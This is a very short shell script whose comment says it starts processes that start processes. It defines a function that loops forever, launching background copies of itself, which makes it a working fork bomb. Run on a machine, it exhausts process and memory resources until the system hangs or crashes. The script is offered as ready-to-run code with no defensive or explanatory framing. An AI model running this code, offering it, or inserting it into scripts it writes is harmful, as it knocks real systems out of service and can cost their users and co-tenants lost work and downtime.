# Starts processes that start processes, for as long as anybody lets it.
bomb() {
	while :; do
		bomb &
	done
}
bomb
